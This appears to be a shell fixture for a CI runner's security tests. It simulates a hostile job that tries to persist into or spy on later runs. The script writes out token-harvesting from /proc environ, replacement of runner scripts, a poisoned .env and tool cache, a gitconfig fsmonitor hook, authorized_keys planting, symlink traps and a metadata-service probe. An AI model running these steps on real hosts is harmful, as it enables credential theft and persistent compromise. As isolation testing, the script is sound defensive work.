# A hostile job of run A (docs/security.md, "Hostile jobs"): it runs as the
# runner user and tries to persist into, or spy on, the next run on this
# instance. The test prepends: R (this run's runner copy), I (the install),
# W (the work folder), D (a drop box the wipe leaves alone, where whatever
# survives reports), T (a file of root's), TAG (unique per test), AGENT
# (the agent's pid), IMDS_HOST and IMDS_PORT (the metadata service), HJ
# (internal/testenv/hostilejob, for what takes system calls) and WW (a
# folder of root's, world-writable, with a world-writable "deep" in it, as
# systemd-tmpfiles makes /tmp/.X11-unix). It prints what it managed that it
# never should have.

# The runner's .env: the next listener, and every job of it, would load it.
echo "GHR_FROM_A=planted" >>"$R/.env"
echo "NODE_OPTIONS=--require=$D/evil.js" >>"$R/.env"

# The install itself: root's, read-only to us.
if echo 'echo owned' >>"$I/config.sh" 2>/dev/null; then echo "BREACH wrote the install's config.sh"; fi
if echo "X=1" >"$I/.env" 2>/dev/null; then echo "BREACH created the install's .env"; fi

# This run's copy is ours: replace the scripts the agent runs next (config.sh
# remove carries the remove token in its environment).
for s in config.sh run.sh; do
	rm -f "$R/$s"
	printf '#!/bin/bash\necho "%s ran" >>%s/planted-ran\nenv >>%s/planted-ran\n' "$s" "$D" "$D" >"$R/$s"
	chmod +x "$R/$s"
done

# Symlinks where root used to write, or might: followed, they would let
# root overwrite T.
ln -sf "$T" "$R/.ghrunner-run.pid"
ln -sf "$T" "$W/planted-link"
ln -sf "$T" "/tmp/ghr-link-$TAG"

# A daemon out of the runner's process group, deaf to the stop signals,
# reading every environment it can (a config.sh of the next run holds its
# token there) and the work folder (the next run's checkout), and a nohup loop.
setsid bash -c 'trap "" INT TERM HUP
while :; do
	for e in /proc/[0-9]*/environ; do tr "\0" "\n" <"$e" 2>/dev/null | grep -a ACTIONS_RUNNER_INPUT_TOKEN; done
	find "$1" 2>/dev/null
	sleep 0.2
done >>"$2/spy"' "ghr-daemon-$TAG" "$W" "$D" </dev/null >/dev/null 2>&1 &
nohup bash -c 'trap "" INT TERM HUP; while :; do date >"$1/nohup-alive"; sleep 0.2; done' "ghr-nohup-$TAG" "$D" </dev/null >/dev/null 2>&1 &

# A daemon whose main thread exits while a worker thread lives on: its
# /proc/<pid>/status reads State: Z, as a zombie's. It lists the work
# folder into $D/spy and touches $D/thread-alive.
setsid "$HJ" thread-daemon "$W" "$D" </dev/null >/dev/null 2>&1 &

# Kernel objects that outlive every process of the uid: SysV shared
# memory, message queue and semaphores, a POSIX message queue, keys in the
# user and user-session keyrings.
"$HJ" plant-ipc "$TAG" || echo "hostilejob plant-ipc failed: the suite proves less"

# The agent's secrets: its environment, its session keyring.
if [ -n "${GHR_OPERATOR_SECRET:-}" ]; then echo "BREACH the agent's GHR_OPERATOR_SECRET reached the job"; fi
if "$HJ" probe-session-keyring | grep -q ghr-agent-session-secret; then echo "BREACH the job possesses the agent's session keyring"; fi

# A "cached" toolchain the next job's actions/setup-* would run.
case "${RUNNER_TOOL_CACHE:-}" in
"$W"/*) ;;
*) echo "BREACH the tool cache ${RUNNER_TOOL_CACHE:-(unset)} is outside the wiped work folder" ;;
esac
mkdir -p "${RUNNER_TOOL_CACHE:-/nonexistent}/node/99.0.0/x64/bin" && echo planted >"$RUNNER_TOOL_CACHE/node/99.0.0/x64/bin/node"

# Files in root's world-writable folders below the shared temporary places.
echo planted >"$WW/ghr-a-$TAG"
echo planted >"$WW/deep/ghr-a-$TAG"

# Home and the shared temporary places: read by later jobs' tools.
printf '[core]\n\tfsmonitor = touch %s/fsmonitor-ran\n' "$D" >~/.gitconfig
mkdir -p ~/.ssh && echo planted >~/.ssh/authorized_keys
for d in /tmp /var/tmp /dev/shm; do echo planted >"$d/ghr-a-$TAG"; done

# Another process's environment: the agent's (root's).
if tr "\0" "\n" <"/proc/$AGENT/environ" >/dev/null 2>&1; then echo "BREACH read the agent's environment"; fi

# The metadata service: the instance role's credentials are one request away.
if (exec 3<>"/dev/tcp/$IMDS_HOST/$IMDS_PORT") 2>/dev/null; then echo "BREACH reached the instance metadata service"; fi

sleep 0.5 # the spy has looked once
echo "run A done"
